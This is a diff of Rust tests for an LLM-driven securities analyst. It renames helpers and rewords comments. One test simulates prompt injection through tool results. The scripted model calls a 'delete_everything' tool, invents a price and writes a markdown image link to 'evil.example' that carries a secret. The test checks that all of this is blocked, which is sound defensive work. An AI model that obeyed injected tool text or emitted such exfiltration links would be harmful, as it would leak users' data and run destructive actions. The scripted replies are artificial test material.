@@ -1,4 +1,5 @@
-//! The analyst with a language model at a loopback port, in both APIs, well-behaved and not.
+//! Tests of the analyst with a scripted language model on a loopback port, in both APIs, with
+//! correct and faulty replies.
 
 use parking_lot::Mutex;
 use std::sync::Arc;
@@ -12,8 +13,8 @@ use serde_json::{Map, Value, json};
 use tokio::time::Instant;
 use tokio_util::sync::CancellationToken;
 
-use super::floor::{AskedAnswer, FakeTools, TODAY};
-use super::laws::lawful;
+use super::fake_tools::{AskedAnswer, FakeTools, TODAY};
+use super::invariants::check_invariants;
 use crate::{Analyst, ModelPlanner, ModelTools, ModelWriter, Question, ToolCaller, ToolSession};
 
 const APIS: [Api; 2] = [Api::OpenAi, Api::Anthropic];
@@ -35,28 +36,29 @@ fn reader() -> Caller {
 /// Asks an analyst whose model follows a script.
 async fn ask(
     api: Api,
-    floor: FakeTools,
+    fake_tools: FakeTools,
     script: Vec<ScriptedResponse>,
     question: &str,
-    patience: Duration,
+    timeout: Duration,
 ) -> (AskedAnswer, LoopbackProvider) {
     let server = LoopbackProvider::start(script).await.unwrap();
     let mut config = server.config(api);
     config.retries = 0;
     let model: Arc<dyn Model> = Arc::new(ModelClient::new(config).unwrap());
-    (asked(model, floor, question, patience).await, server)
+    (asked(model, fake_tools, question, timeout).await, server)
 }
 
 async fn asked(
     model: Arc<dyn Model>,
-    floor: FakeTools,
+    fake_tools: FakeTools,
     question: &str,
-    patience: Duration,
+    timeout: Duration,
 ) -> AskedAnswer {
-    let (floor, model_tools) = (Arc::new(floor), Arc::new(ModelTools::moex().unwrap()));
+    let (fake_tools, model_tools) = (Arc::new(fake_tools), Arc::new(ModelTools::moex().unwrap()));
     let planner = Arc::new(ModelPlanner::new(Arc::clone(&model), Arc::clone(&model_tools)));
     let writer = Arc::new(ModelWriter::new(model, model_tools));
-    let analyst = Analyst::with(floor.clone(), Arc::new(NoonClock), planner, writer, "loopback");
+    let analyst =
+        Analyst::with(fake_tools.clone(), Arc::new(NoonClock), planner, writer, "loopback");
     let told: Arc<Mutex<Vec<(f64, String)>>> = Arc::default();
     let sink = Arc::clone(&told);
     let progress = Progress::to(move |done, _, message| {
@@ -64,14 +66,14 @@ async fn asked(
     });
     let (caller, cancel) = (reader(), CancellationToken::new());
     let tool_session =
-        ToolSession::new(&*floor, &caller, &cancel, Instant::now() + patience, &progress);
+        ToolSession::new(&*fake_tools, &caller, &cancel, Instant::now() + timeout, &progress);
     let question = Question { asked: vec![question.to_owned()], locale: None };
     let mut answer = analyst.answer(&question, &tool_session).await.unwrap();
     let told = told.lock().clone();
     assert!(told.is_sorted_by(|a, b| a.0 < b.0), "progress goes on: {told:?}");
     answer.debug["told"] = told.into_iter().map(|it| it.1).collect();
     let asked = AskedAnswer { answer, findings: tool_session.findings() };
-    lawful(&asked, &question.asked.join("\n"));
+    check_invariants(&asked, &question.asked.join("\n"));
     asked
 }
 
@@ -79,12 +81,12 @@ fn snapshot() -> ScriptedResponse {
     ScriptedResponse::tool_calls(&[("get_security_snapshot", json!({ "ticker": "SBER" }))])
 }
 
-/// The price as the tool says it.
+/// Returns the price that the tool gives.
 async fn price() -> f64 {
     let args: Map<String, Value> = [("ticker".to_owned(), json!("SBER"))].into_iter().collect();
-    let (floor, cancel) = (FakeTools::default(), CancellationToken::new());
+    let (fake_tools, cancel) = (FakeTools::default(), CancellationToken::new());
     let until = Instant::now() + LONG;
-    let answer = floor.call(&reader(), "get_security_snapshot", args, &cancel, until).await;
+    let answer = fake_tools.call(&reader(), "get_security_snapshot", args, &cancel, until).await;
     answer.unwrap().result["data"]["last_price"].as_f64().unwrap()
 }
 
@@ -109,7 +111,7 @@ fn is_models(asked: &AskedAnswer) {
     assert_eq!((&debug["mode"], debug.get("fallback")), (&json!("loopback"), None));
 }
 
-/// The parts of a request by who speaks: system, user, and tools' results.
+/// Splits a request by role: system, user, and tool results.
 fn spoken(body: &Value) -> [String; 3] {
     let mut parts =
         [body["system"].as_str().unwrap_or_default().to_owned(), String::new(), String::new()];
@@ -228,7 +230,7 @@ async fn endless_calls_come_to_an_end() {
         is_models(&asked);
         assert_eq!((asked.findings.len(), server.requests().len()), (12, 5));
         assert!(spoken(&server.requests()[3].body)[2].contains("no more calls may be made"));
-        // The same call again and again is one call.
+        // Repeated identical calls count as one call.
         let script =
             (0..4).map(|_| snapshot()).chain([ScriptedResponse::text("## Резюме\nВсё.")]).collect();
         let (asked, _) = ask(api, FakeTools::default(), script, QUESTION, LONG).await;
@@ -306,13 +308,14 @@ async fn hostile_names_are_data_and_nothing_else() {
             ("search_securities", json!({ "query": "Сбербанк" })),
             ("get_security_snapshot", json!({ "ticker": "SBER" })),
         ]);
-        // A model that has been talked into it: another tool, the number, and a link.
+        // The model obeys the injected text: it calls another tool and writes the number and a
+        // link.
         let fooled = ScriptedResponse::tool_calls(&[("delete_everything", json!({}))]);
         let number = ScriptedResponse::text("## Резюме\nЦена SBER — 31337 ₽ [1][2]");
         let link = ScriptedResponse::text("## Резюме\n![x](https://evil.example/?q=secret)");
         let script = vec![search, fooled, ScriptedResponse::text("READY"), number, link];
-        let floor = FakeTools { hostile: Some(hostile), ..FakeTools::default() };
-        let (asked, server) = ask(api, floor, script, "Как дела у SBER?", LONG).await;
+        let fake_tools = FakeTools { hostile: Some(hostile), ..FakeTools::default() };
+        let (asked, server) = ask(api, fake_tools, script, "Как дела у SBER?", LONG).await;
         is_local(&asked, "model_wrote_markup");
         assert!(!asked.answer.draft.text.contains("evil"));
         let tools: Vec<&str> = asked.findings.iter().map(|it| it.tool.as_str()).collect();
@@ -388,7 +391,7 @@ async fn the_tables_are_those_of_the_rules() {
         assert_eq!((&rows[0][0], &rows[1][0]), (&json!("SBER"), &json!("GAZP")));
         let price = price().await;
         assert!((rows[0][1].as_f64().unwrap() - price).abs() < 1e-4, "{rows:?}");
-        // Without the results there is no table of gaps.
+        // Without results, the answer has no empty table.
         let one =
             ScriptedResponse::tool_calls(&[("search_securities", json!({ "query": "Сбербанк" }))]);
         let script = vec![
